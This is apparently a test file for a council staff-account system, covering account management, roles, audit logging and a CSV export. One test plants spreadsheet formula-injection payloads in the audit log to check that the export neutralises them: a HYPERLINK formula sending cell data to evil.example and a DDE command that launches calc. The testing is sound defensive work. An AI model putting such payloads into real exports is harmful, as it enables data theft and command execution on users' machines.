// Managing staff accounts (command line, admin pages and API) and the
// audit trail each change leaves: who sees which entries, the CSV export,
// and that entries hold ids, never personal data.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { run, startServer, yorkDatabase, backend } from '../lib/alongside.mjs';
import { Browser, DEMO_PASSWORD } from '../lib/staff.mjs';

let db, server, admin, areas;
const user = (...args) => run(['user', ...args, '--db', db]);
before(async () => {
  db = await yorkDatabase();
  server = await startServer({ db, migrate: false });
  admin = await new Browser(server.url).signedIn('admin');
  admin.csrfToken = await admin.csrf('/staff');
  areas = Object.fromEntries((await (await fetch(server.url + '/api/v1/areas')).json())
    .features.map((f) => [f.properties.name, f.id]));
});
after(async () => { await server.stop(); });

const api = (method, path, json) =>
  admin.request(method, path, { json, headers: { 'X-CSRF-Token': admin.csrfToken } });

test(`the command line refuses bad accounts and changes nothing (${backend})`, async () => {
  const before = (await user('list')).stdout;
  const cases = [
    [['add', 'ab', '--role', 'coordinator', '--area', 'Heworth'], /usernames are 3 to 64/],
    [['add', 'x'.repeat(65), '--role', 'administrator'], /usernames are 3 to 64/],
    [['add', 'bad name', '--role', 'administrator'], /usernames are 3 to 64/],
    [['add', 'newbie', '--role', 'wizard'], /roles are coordinator, team_leader, administrator or programme_manager/],
    [['add', 'newbie', '--role', 'coordinator'], /needs at least one area/],
    [['add', 'newbie', '--role', 'administrator', '--area', 'Heworth'], /administrator's role has no areas/],
    [['add', 'newbie', '--role', 'programme-manager', '--area', 'Heworth'], /programme manager sees every area's figures: their role has no areas/],
    [['set-role', 'priya', 'programme_manager', '--area', 'Heworth'], /their role has no areas/],
    [['add', 'newbie', '--role', 'coordinator', '--area', 'Atlantis'], /no area called "Atlantis"/],
    [['add', 'priya', '--role', 'administrator'], /already a user called "priya"/],
    [['add', 'newbie', '--role', 'administrator', '--role', 'coordinator'], /--role given twice/],
    [['set-role', 'nobody', 'administrator'], /no user called "nobody"/],
    [['set-role', 'priya', 'coordinator', '--remove'], /only role/],
    [['set-role', 'priya', 'administrator', '--remove'], /does not hold that role/],
    [['cover', 'jo.bennett', '--area', 'Heworth', '--from', '2026-03-01', '--to', '2026-03-14'], /Only a coordinator/],
    [['cover', 'priya', '--area', 'Heworth', '--from', '2026-03-14', '--to', '2026-03-01'], /on or after/],
    [['cover', 'priya', '--area', 'Heworth', '--from', '1 March', '--to', '2026-03-14'], /first day of cover, a real date/],
    [['set-password', 'priya'], /no password given/],
  ];
  for (const [args, message] of cases) {
    const r = await user(...args);
    assert.equal(r.code, 2, args.join(' ') + '\n' + r.stderr);
    assert.match(r.stderr, message, args.join(' '));
  }
  for (const [password, message] of [['short', /at least 12/], ['password1234', /too common/],
    ['priya is my name', /username/]]) {
    const r = await run(['user', 'set-password', 'priya', '--db', db], { input: password + '\n' });
    assert.equal(r.code, 2);
    assert.match(r.stderr, message);
  }
  // Every problem at once, each on a line of its own.
  const several = await run(['user', 'add', 'x', '--role', 'coordinator', '--area', 'Atlantis', '--db', db],
    { input: 'short\n' });
  assert.equal(several.code, 2);
  const lines = several.stderr.trim().split('\n');
  assert.equal(lines.length, 3, several.stderr);
  assert.match(lines.find((l) => /usernames are 3 to 64/.test(l)), /^alongside user add: /);
  assert.ok(lines.some((l) => /at least 12/.test(l)) && lines.some((l) => /no area called "Atlantis"/.test(l)));
  assert.equal((await user('list')).stdout, before);
  await new Browser(server.url).signedIn('priya');
});

test('the first administrator is made from the command line, password from stdin', async () => {
  const added = await run(['user', 'add', 'Second.Admin', '--role', 'administrator', '--name', 'Second Admin',
    '--db', db], { input: 'a long and private passphrase\n' });
  assert.equal(added.code, 0, added.stderr);
  assert.match(added.stdout, /^[0-9a-f]{32}\n$/);
  assert.doesNotMatch(added.stdout + added.stderr, /passphrase/);
  const b = await new Browser(server.url).signedIn('second.admin', 'a long and private passphrase');
  assert.equal((await b.get('/admin/users')).status, 200);
  // Without a password the account waits, and cannot sign in.
  const waiting = await run(['user', 'add', 'waiting', '--role', 'administrator', '--db', db], { input: '' });
  assert.equal(waiting.code, 0);
  assert.match(waiting.stderr, /no password given/);
  assert.match((await user('list')).stdout, /waiting +no-pass +administrator/);
});

test('an administrator manages accounts over the API, and each change is audited', async () => {
  const created = await api('POST', '/api/v1/admin/users', {
    username: 'New.Coordinator', display_name: 'Nia <Coordinator>', role: 'coordinator',
    areas: ['Heworth'], password: 'tea and toast on tuesdays',
  });
  assert.equal(created.status, 201, created.text);
  const nia = created.json();
  assert.equal(nia.username, 'new.coordinator');
  assert.deepEqual(nia.roles, { coordinator: [areas.Heworth] });
  assert.equal(created.headers.get('location'), `/api/v1/admin/users/${nia.id}`);

  const lead = await api('PUT', `/api/v1/admin/users/${nia.id}/roles/team_leader`, { areas: ['Heworth', areas['Acomb and Westfield']] });
  assert.equal(lead.status, 200, lead.text);
  assert.deepEqual(lead.json().roles.team_leader.sort(), [areas.Heworth, areas['Acomb and Westfield']].sort());
  const dropped = await api('DELETE', `/api/v1/admin/users/${nia.id}/roles/team_leader`);
  assert.equal(dropped.status, 200);
  assert.equal(dropped.json().roles.team_leader, undefined);

  const refused = [
    ['POST', '/api/v1/admin/users', { username: 'nia2', role: 'coordinator', areas: ['Heworth'], password: 'password1234' }, 422, /too common/],
    ['POST', '/api/v1/admin/users', { username: 'new.coordinator', role: 'administrator' }, 409, /already a user/],
    ['POST', '/api/v1/admin/users', { username: 'nia3', role: 'coordinator', areas: 'Heworth' }, 422, /Must be a list/],
    ['POST', '/api/v1/admin/users', { username: 'nia3', role: 'coordinator', areas: ['Heworth'], is_admin: true }, 422, /is_admin: Not a field/],
    ['PUT', `/api/v1/admin/users/${nia.id}/roles/wizard`, { areas: [] }, 404, /no such role/],
    ['PUT', `/api/v1/admin/users/${nia.id}/password`, { password: 'short' }, 422, /at least 12/],
    ['PUT', `/api/v1/admin/users/${nia.id}/disabled`, { disabled: 'yes' }, 422, /true or false/],
  ];
  for (const [method, path, body, status, message] of refused) {
    const r = await api(method, path, body);
    assert.equal(r.status, status, `${method} ${path} ${JSON.stringify(body)}: ${r.text}`);
    assert.match(r.json().error.message, message);
  }
  assert.equal((await api('GET', '/api/v1/admin/users')).json().users.filter((u) => u.username.startsWith('nia')).length, 0);
  // Every problem at once, each named as the API names the field.
  const several = await api('POST', '/api/v1/admin/users', { username: 'x', role: 'coordinator',
    areas: ['Atlantis'], password: 'short' });
  assert.equal(several.status, 422, several.text);
  assert.equal(several.json().error.code, 'invalid');
  assert.deepEqual(several.json().error.fields.map((f) => f.field).sort(), ['areas', 'password', 'username']);
  assert.match(several.json().error.fields.find((f) => f.field === 'areas').message, /no area called "Atlantis"/);
  const nobody = await api('GET', `/api/v1/admin/users/${'f'.repeat(32)}`);
  assert.equal(nobody.status, 404);
  assert.equal(nobody.json().error.code, 'user_not_found');

  const withEmail = await api('PUT', `/api/v1/admin/users/${nia.id}/email`, { email: 'nia@council.example' });
  assert.equal(withEmail.status, 200);
  assert.equal(withEmail.json().email, 'nia@council.example');
  const badEmail = await api('PUT', `/api/v1/admin/users/${nia.id}/email`, { email: 'nia at council' });
  assert.equal(badEmail.status, 422);
  assert.equal((await api('GET', `/api/v1/admin/users/${nia.id}`)).json().email, 'nia@council.example');
  assert.equal((await api('PUT', `/api/v1/admin/users/${nia.id}/email`, { email: '' })).json().email, null);

  const niaBrowser = await new Browser(server.url).signedIn('new.coordinator', 'tea and toast on tuesdays');
  const off = await api('PUT', `/api/v1/admin/users/${nia.id}/disabled`, { disabled: true });
  assert.equal(off.json().disabled, true);
  assert.equal((await niaBrowser.get('/api/v1/me')).status, 401);

  const log = (await api('GET', '/api/v1/admin/audit')).json().entries;
  const about = log.filter((e) => e.record_id === nia.id).map((e) => e.action);
  // Newest first; entries within one millisecond may come either way.
  assert.equal(about[0], 'user_disable');
  assert.equal(about.at(-1), 'user_add');
  assert.deepEqual([...about].sort(), ['email_change', 'email_change', 'password_change', 'role_change',
    'role_change', 'user_add', 'user_disable']);
  assert.ok(log.every((e) => e.client_address && e.request_id && e.at));
  assert.ok(log.filter((e) => e.record_id === nia.id).every((e) => e.actor_username === 'admin'));
  // Entries name records; they never hold what was typed.
  assert.ok(!JSON.stringify(log).includes('Nia'));
  assert.ok(!JSON.stringify(log).includes('tea and toast'));
});

test('the admin pages add a user and change their roles, with the CSRF token', async () => {
  const form = await admin.get('/admin/users/new');
  assert.equal(form.status, 200);
  const csrf_token = /name="csrf_token" value="([^"]+)"/.exec(form.text)[1];
  const params = new URLSearchParams({ csrf_token, username: 'page.made', display_name: 'Page Made',
    role: 'coordinator', password: 'kettle on the landing' });
  params.append('area', areas.Heworth);
  params.append('area', areas['Acomb and Westfield']);
  const made = await admin.post('/admin/users', params);
  assert.equal(made.status, 303, made.text.slice(0, 500));
  const page = await admin.get(made.headers.get('location'));
  assert.match(page.text, /Coordinator \(Acomb and Westfield, Heworth\)|Coordinator \(Heworth, Acomb and Westfield\)/);
  const id = made.headers.get('location').split('/').pop();
  // Every problem at once, each beside its field and linked from the summary,
  // with what was typed kept.
  const accounts = (await api('GET', '/api/v1/admin/users')).json().users.length;
  const bad = await admin.post('/admin/users', new URLSearchParams({ csrf_token, username: 'x',
    display_name: 'Kept Name', role: 'coordinator', password: 'short' }));
  assert.equal(bad.status, 422);
  assert.match(bad.text, /<title>Error: Add a user/);
  assert.match(bad.text, /<a href="#username">usernames are 3 to 64/);
  assert.match(bad.text, /<a href="#password">Use a password of at least 12/);
  assert.match(bad.text, /<a href="#areas">a coordinator needs at least one area/);
  assert.match(bad.text, /id="username-error"[^>]*>.*usernames are 3 to 64/);
  assert.match(bad.text, /id="password-error"[^>]*>.*at least 12/);
  assert.match(bad.text, /value="Kept Name"/);
  assert.doesNotMatch(bad.text, /value="short"/, 'a password is never shown again');
  assert.equal((await api('GET', '/api/v1/admin/users')).json().users.length, accounts, 'nothing was added');
  const makeAdmin = await admin.post(`/admin/users/${id}/roles`, { csrf_token, role: 'administrator' });
  assert.equal(makeAdmin.status, 303);
  assert.match((await admin.get(`/admin/users/${id}`)).text, /Take administrator away/);
  const emailed = await admin.post(`/admin/users/${id}/email`, { csrf_token, email: 'page.made@council.example' });
  assert.equal(emailed.status, 303);
  assert.match((await admin.get(`/admin/users/${id}`)).text, /value="page\.made@council\.example"/);
  const badEmail = await admin.post(`/admin/users/${id}/email`, { csrf_token, email: '<script>' });
  assert.equal(badEmail.status, 422);
  assert.match(badEmail.text, /id="email-error"[^>]*>.*email address is not valid/);
  assert.match(badEmail.text, /value="&lt;script&gt;"/);
  const noAreas = await admin.post(`/admin/users/${id}/roles`, { csrf_token, role: 'team_leader' });
  assert.equal(noAreas.status, 422);
  assert.match(noAreas.text, /<a href="#team_leader">a team leader needs the areas of their team/);
  const noToken = await admin.post(`/admin/users/${id}/disable`, {});
  assert.equal(noToken.status, 403);
  assert.match((await admin.get(`/admin/users/${id}`)).text, /Active/);
});

// Reads one number from the test database, behind the binary's back.
function sqlCount(query) {
  const out = backend === 'postgresql'
    ? execFileSync('psql', [db, '-qAtc', query], { encoding: 'utf8' })
    : execFileSync('sqlite3', [db.replace(/^sqlite:/, ''), query], { encoding: 'utf8' });
  return Number(out.trim());
}

test(`a programme manager is made without areas, from the command line, the API and the pages (${backend})`, async () => {
  const cli = await run(['user', 'add', 'pm.cli', '--role', 'programme-manager', '--name', 'PM Cli', '--db', db],
    { input: 'a long and private passphrase\n' });
  assert.equal(cli.code, 0, cli.stderr);
  assert.match((await user('list')).stdout, /pm\.cli +active +programme_manager\n/);
  // Its first capacity is kept from today, set by the command line.
  assert.equal(sqlCount(`SELECT count(*) FROM capacity_changes WHERE user_id = '${cli.stdout.trim()}'`
    + ' AND set_by IS NULL AND capacity = 55'), 1);

  const refused = await api('POST', '/api/v1/admin/users', { username: 'pm.api', role: 'programme_manager',
    areas: ['Heworth'] });
  assert.equal(refused.status, 422, refused.text);
  assert.deepEqual(refused.json().error.fields.map((f) => f.field), ['areas']);
  const made = await api('POST', '/api/v1/admin/users', { username: 'pm.api', role: 'programme_manager' });
  assert.equal(made.status, 201, made.text);
  assert.deepEqual(made.json().roles, { programme_manager: true });
  const priya = (await api('GET', '/api/v1/admin/users')).json().users.find((u) => u.username === 'priya');
  const withAreas = await api('PUT', `/api/v1/admin/users/${priya.id}/roles/programme_manager`, { areas: ['Heworth'] });
  assert.equal(withAreas.status, 422);
  assert.equal((await api('GET', `/api/v1/admin/users/${priya.id}`)).json().roles.programme_manager, undefined);

  const form = await admin.get('/admin/users/new');
  assert.match(form.text, /<input[^>]*name="role"[^>]*value="programme_manager"[^>]*>\s*<label[^>]*>Programme manager</);
  assert.doesNotMatch(form.text, /&lt;\/div&gt;/, 'the area boxes close as markup, not text');
  const csrf_token = admin.csrfToken;
  const params = new URLSearchParams({ csrf_token, username: 'pm.page', role: 'programme_manager' });
  params.append('area', areas.Heworth);
  const bad = await admin.post('/admin/users', params);
  assert.equal(bad.status, 422);
  assert.match(bad.text, /<a href="#areas">a programme manager sees every area&#39;s figures: their role has no areas/);
  assert.equal((await api('GET', '/api/v1/admin/users')).json().users.filter((u) => u.username === 'pm.page').length, 0);
  const good = await admin.post('/admin/users', { csrf_token, username: 'pm.page', role: 'programme_manager' });
  assert.equal(good.status, 303, good.text.slice(0, 500));
  const page = (await admin.get(good.headers.get('location'))).text;
  assert.match(page, /<dd class="govuk-summary-list__value">Programme manager<\/dd>/);
  assert.match(page, /name="role" value="programme_manager"><input type="hidden" name="remove" value="1">/);
  assert.match(page, /Take programme manager away/);
  assert.doesNotMatch(page, /&lt;input/, 'the button to take a role away sends remove, as markup');
  const given = await admin.post(`/admin/users/${priya.id}/roles`, { csrf_token, role: 'programme_manager' });
  assert.equal(given.status, 303);
  assert.match((await admin.get(`/admin/users/${priya.id}`)).text, /Coordinator \(Acomb and Westfield\); Programme manager/);
  assert.equal((await admin.post(`/admin/users/${priya.id}/roles`, { csrf_token, role: 'programme_manager', remove: '1' })).status, 303);
  assert.deepEqual(Object.keys((await api('GET', `/api/v1/admin/users/${priya.id}`)).json().roles), ['coordinator']);
});

test(`a programme manager reaches no person's record, and is shown the reports (${backend})`, async () => {
  const priya = await new Browser(server.url).signedIn('priya');
  const person = (await priya.get('/api/v1/caseload')).json().people[0].id;
  assert.equal((await priya.get(`/staff/people/${person}`)).status, 200);
  const made = await priya.request('POST', '/api/v1/introductions', {
    headers: { 'X-CSRF-Token': await priya.csrf('/staff') },
    json: { person: { name: 'Pat Example', phone: '07700 900124', postcode: 'YO24 4NB' },
      introduced_by: { relationship: 'self' }, person_knows: 'yes', channel: 'phone' },
  });
  assert.equal(made.status, 201, made.text);
  const introduction = made.json();
  assert.equal((await priya.get(`/staff/introductions/${introduction.id}`)).status, 200);
  const sam = await new Browser(server.url).signedIn('sam.patel');
  assert.equal((await sam.get(`/staff/people/${person}`)).status, 404);
  assert.equal((await sam.get(`/api/v1/people/${person}`)).status, 404);
  assert.equal((await sam.get(`/staff/introductions/${introduction.id}`)).status, 404);
  const inbox = await sam.get('/staff/introductions');
  assert.equal(inbox.status, 200);
  assert.match(inbox.text, /no introductions come to you/);
  assert.doesNotMatch(inbox.text, /Pat Example/);
  assert.doesNotMatch(inbox.text, /href="\/staff\/introductions\/[0-9a-f]{32}"/);
  assert.deepEqual((await sam.get('/api/v1/introductions')).json().introductions, []);
  assert.equal((await sam.get('/staff/caseload')).status, 404);
  assert.equal((await sam.get('/team/caseloads')).status, 403);
  assert.equal((await sam.get('/admin/users')).status, 403);

  const home = (await sam.get('/staff')).text;
  assert.match(home, /Programme manager<\/dt><dd[^>]*>Every area&#39;s figures, and no person&#39;s record/);
  assert.match(home, /<a class="govuk-link" href="\/reports">Reports<\/a>/);
  assert.match(home, /govuk-service-navigation__link" href="\/reports">Reports</, 'in the header');
  assert.doesNotMatch(home, /href="\/staff\/people\/new"/, 'no person to make');
  const jo = await new Browser(server.url).signedIn('jo.bennett');
  assert.match((await jo.get('/staff')).text, /<a class="govuk-link" href="\/reports">Reports<\/a>/);
  const priyaHome = (await priya.get('/staff')).text;
  assert.doesNotMatch(priyaHome, /href="\/reports"/, 'a coordinator has no reports');
  assert.match(priyaHome, /href="\/staff\/people\/new"/);
});

test(`every capacity set is kept with its day and who set it (${backend})`, async () => {
  const priya = (await api('GET', '/api/v1/admin/users')).json().users.find((u) => u.username === 'priya');
  const kept = () => sqlCount(`SELECT count(*) FROM capacity_changes WHERE user_id = '${priya.id}'`);
  const before = kept();
  assert.equal((await user('set-capacity', 'priya', '48')).code, 0);
  const jo = await new Browser(server.url).signedIn('jo.bennett');
  const joId = (await jo.get('/api/v1/me')).json().id;
  const set = await jo.request('PUT', `/api/v1/coordinators/${priya.id}/capacity`,
    { json: { capacity: 50 }, headers: { 'X-CSRF-Token': await jo.csrf('/staff') } });
  assert.equal(set.status, 200, set.text);
  assert.equal(kept(), before + 2);
  const today = new Intl.DateTimeFormat('en-CA', { timeZone: 'Europe/London' }).format(new Date());
  assert.equal(sqlCount(`SELECT count(*) FROM capacity_changes WHERE user_id = '${priya.id}'`
    + ` AND capacity = 50 AND set_by = '${joId}' AND from_on = '${today}'`), 1);
  assert.equal(sqlCount(`SELECT count(*) FROM capacity_changes WHERE user_id = '${priya.id}'`
    + ` AND capacity = 48 AND set_by IS NULL AND from_on = '${today}'`), 1);
  // Refused: nothing kept.
  assert.equal((await user('set-capacity', 'priya', '0')).code, 2);
  assert.equal(kept(), before + 2);
});

test('team leaders see their own team\'s trail, and export it as CSV', async () => {
  // Cover is recorded against the area, so it shows in that team's trail.
  assert.equal((await user('cover', 'tom', '--area', 'Acomb and Westfield', '--from', '2026-12-01', '--to', '2026-12-14')).code, 0);
  assert.equal((await user('cover', 'priya', '--area', 'Hull Road and Fishergate', '--from', '2026-12-01', '--to', '2026-12-14')).code, 0);
  const jo = await new Browser(server.url).signedIn('jo.bennett');
  const page = await jo.get('/team/audit');
  assert.equal(page.status, 200);
  assert.match(page.text, /cover_add/);
  assert.match(page.text, /Acomb and Westfield/);
  assert.doesNotMatch(page.text, /Hull Road and Fishergate/, 'another team\'s area');
  const json = (await jo.get('/api/v1/team/audit')).json().entries;
  assert.ok(json.length >= 1 && json.every((e) => e.area_id === areas['Acomb and Westfield'] || e.area_id === areas['Holgate and Micklegate'] || e.area_id === areas['Clifton and Guildhall']));

  const csv = await jo.get('/team/audit.csv?action=cover_add');
  assert.equal(csv.status, 200);
  assert.match(csv.headers.get('content-type'), /^text\/csv/);
  assert.match(csv.headers.get('content-disposition'), /attachment/);
  const lines = csv.text.trim().split('\r\n');
  assert.equal(lines[0], 'at,who,action,outcome,record_type,record_id,area_id,client_address,request_id,changes');
  assert.ok(lines.length >= 2);
  assert.ok(lines.slice(1).every((l) => l.includes('"cover_add"')));
  const exported = (await api('GET', '/api/v1/admin/audit?action=export')).json().entries;
  assert.equal(exported[0].actor_username, 'jo.bennett', 'the export is itself audited');
  assert.equal((await api('GET', '/api/v1/team/audit')).status, 403, 'an administrator is not a team leader');
  const badFilter = await jo.get('/team/audit?from=yesterday&to=tomorrow');
  assert.equal(badFilter.status, 422);
  assert.match(badFilter.text, /<a href="#from">From must be a real date/);
  assert.match(badFilter.text, /<a href="#to">To must be a real date/);
  assert.equal((await jo.get('/team/audit.csv?to=2026-02-30')).status, 422);
});

// Runs one statement on the test database, behind the binary's back.
function sql(statement) {
  if (backend === 'postgresql') execFileSync('psql', [db, '-qAtc', statement], { stdio: 'pipe' });
  else execFileSync('sqlite3', [db.replace(/^sqlite:/, ''), statement], { stdio: 'pipe' });
}

// RFC 4180: quoted cells with "" for a quote, rows ended by CRLF.
function parseCsv(text) {
  const rows = [];
  let row = [], cell = '', quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') { cell += '"'; i++; } else if (c === '"') quoted = false; else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') { row.push(cell); cell = ''; } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(cell); rows.push(row); row = []; cell = ''; i++;
    } else cell += c;
  }
  assert.equal(cell + row.join(''), '', 'the file ends with a whole row');
  return rows;
}

test('every cell of the audit CSV that a spreadsheet would run is made inert', async () => {
  // No field a request can fill reaches the team's trail with such a first
  // character today (usernames start with a letter or digit, the rest are
  // ids, names of actions and addresses), so the row is written straight
  // into the database, as an older version or an import might have left it.
  const crafted = {
    actor_token_id: '=HYPERLINK("http://evil.example/?"&A1,"x")',
    action: '+SUM(1,2)',
    outcome: '-1+2',
    record_type: '@SUM(1)',
    record_id: '\t=1+1',
    client_address: '\r=1+1',
    request_id: "\r\n=cmd|' /C calc'!A0",
  };
  const quote = (v) => "'" + v.replace(/'/g, "''") + "'";
  sql('INSERT INTO audit_log (id, at, actor_token_id, action, outcome, record_type, record_id, area_id,'
    + ` client_address, request_id) VALUES ('${'c'.repeat(32)}', '${new Date().toISOString()}',`
    + ` ${quote(crafted.actor_token_id)}, ${quote(crafted.action)}, ${quote(crafted.outcome)},`
    + ` ${quote(crafted.record_type)}, ${quote(crafted.record_id)}, '${areas['Acomb and Westfield']}',`
    + ` ${quote(crafted.client_address)}, ${quote(crafted.request_id)})`);
  const jo = await new Browser(server.url).signedIn('jo.bennett');
  const csv = await jo.get('/team/audit.csv');
  assert.equal(csv.status, 200);
  const [header, ...rows] = parseCsv(csv.text);
  assert.deepEqual(header, ['at', 'who', 'action', 'outcome', 'record_type', 'record_id', 'area_id',
    'client_address', 'request_id', 'changes']);
  assert.ok(rows.every((r) => r.length === header.length), 'every row has every column');
  const row = rows.find((r) => r[8].includes('calc'));
  assert.ok(row, 'the crafted row is in the export');
  assert.deepEqual(row.slice(1, 9), [crafted.actor_token_id, crafted.action, crafted.outcome,
    crafted.record_type, crafted.record_id, areas['Acomb and Westfield'], crafted.client_address,
    crafted.request_id].map((v, i) => (i === 5 ? v : "'" + v)));
  for (const r of rows) {
    for (const cell of r) assert.doesNotMatch(cell, /^[=+\-@\t\r]/, JSON.stringify(cell));
  }
});

test('nobody disables their own account, nor disables or demotes the last administrator', async () => {
  // A database of its own, to know exactly who administers it.
  const own = await startServer();
  const cli = (args, input) => run(['user', ...args, '--db', own.db], { input });
  const password = 'a long and private passphrase';
  assert.equal((await cli(['add', 'alex', '--role', 'administrator'], password + '\n')).code, 0);
  const alex = await new Browser(own.url).signedIn('alex', password);
  const csrf_token = await alex.csrf('/staff');
  const alexApi = (method, path, json) => alex.request(method, path, { json, headers: { 'X-CSRF-Token': csrf_token } });
  const id = (await alexApi('GET', '/api/v1/me')).json().id;
  const state = async () => {
    const u = (await alexApi('GET', `/api/v1/admin/users/${id}`)).json();
    return { disabled: u.disabled, administrator: 'administrator' in u.roles };
  };
  try {
    const page = await alex.post(`/admin/users/${id}/disable`, { csrf_token });
    assert.equal(page.status, 422);
    assert.match(page.text, /<a href="#disabled">you cannot disable your own account/);
    assert.match(page.text, /id="disabled-error"[^>]*>.*you cannot disable your own account/);
    const demote = await alex.post(`/admin/users/${id}/roles`, { csrf_token, role: 'administrator', remove: '1' });
    assert.equal(demote.status, 422);
    assert.match(demote.text, /<a href="#role-administrator">alex is the last administrator who can sign in/);
    assert.match(demote.text, /id="role-administrator"[^]*?govuk-error-message[^>]*>.*last administrator/);

    const apiOff = await alexApi('PUT', `/api/v1/admin/users/${id}/disabled`, { disabled: true });
    assert.equal(apiOff.status, 422);
    assert.deepEqual(apiOff.json().error.fields.map((f) => f.field), ['disabled']);
    const apiDemote = await alexApi('DELETE', `/api/v1/admin/users/${id}/roles/administrator`);
    assert.equal(apiDemote.status, 422);
    assert.deepEqual(apiDemote.json().error.fields.map((f) => f.field), ['role']);
    assert.match(apiDemote.json().error.message, /last administrator/);

    // The command line is held to the last-administrator rule too.
    for (const args of [['disable', 'alex'], ['set-role', 'alex', 'administrator', '--remove']]) {
      const r = await cli(args);
      assert.equal(r.code, 2, r.stderr);
      assert.match(r.stderr, /alex is the last administrator who can sign in: make another administrator first/);
    }

    assert.deepEqual(await state(), { disabled: false, administrator: true }, 'nothing changed');
    assert.equal((await alex.get('/api/v1/me')).status, 200, 'still signed in');
    const trail = (await alexApi('GET', '/api/v1/admin/audit')).json().entries.filter((e) => e.record_id === id);
    const refused = (action) => trail.filter((e) => e.action === action && e.outcome === 'refused').length;
    assert.equal(refused('user_disable'), 3, 'page, API and command line');
    assert.equal(refused('role_change'), 3);
    assert.ok(trail.every((e) => e.outcome === 'refused' || e.action === 'password_change' || e.action === 'user_add'));

    // With a second administrator, each may disable or demote the other,
    // and the command line either of them.
    assert.equal((await cli(['add', 'sam', '--role', 'administrator'], password + '\n')).code, 0);
    const sam = (await alexApi('GET', '/api/v1/admin/users')).json().users.find((u) => u.username === 'sam');
    assert.equal((await alex.post(`/admin/users/${sam.id}/disable`, { csrf_token })).status, 303);
    assert.equal((await cli(['disable', 'alex'])).code, 2, 'sam is disabled: alex is the last again');
    assert.equal((await alexApi('PUT', `/api/v1/admin/users/${sam.id}/disabled`, { disabled: false })).status, 200);
    assert.equal((await alex.post(`/admin/users/${id}/disable`, { csrf_token })).status, 422, 'never oneself');
    assert.equal((await cli(['set-role', 'alex', 'administrator', '--remove'])).code, 2, 'his only role');
    assert.equal((await cli(['disable', 'alex'])).code, 0);
    assert.equal((await cli(['enable', 'alex'])).code, 0);

    // Two administrators disabling each other at once: one of them wins.
    // The other is refused by the last-administrator rule (422), finds its
    // session gone (401), or is found disabled between reading its session
    // and its roles, so no longer administers (403): which one is timing.
    const alexAgain = await new Browser(own.url).signedIn('alex', password);
    const samBrowser = await new Browser(own.url).signedIn('sam', password);
    const tokens = [await alexAgain.csrf('/staff'), await samBrowser.csrf('/staff')];
    const put = (b, token, who) => b.request('PUT', `/api/v1/admin/users/${who}/disabled`,
      { json: { disabled: true }, headers: { 'X-CSRF-Token': token } });
    const statuses = (await Promise.all([put(alexAgain, tokens[0], sam.id), put(samBrowser, tokens[1], id)])).map((r) => r.status);
    assert.equal(statuses.filter((st) => st === 200).length, 1, String(statuses));
    assert.ok(statuses.every((st) => [200, 401, 403, 422].includes(st)), String(statuses));
    const listed = (await cli(['list'])).stdout.trim().split('\n');
    assert.deepEqual(listed.map((l) => l.split(/ +/)[1]).sort(), ['active', 'disabled'], listed.join('\n'));
  } finally {
    await own.stop();
  }
});
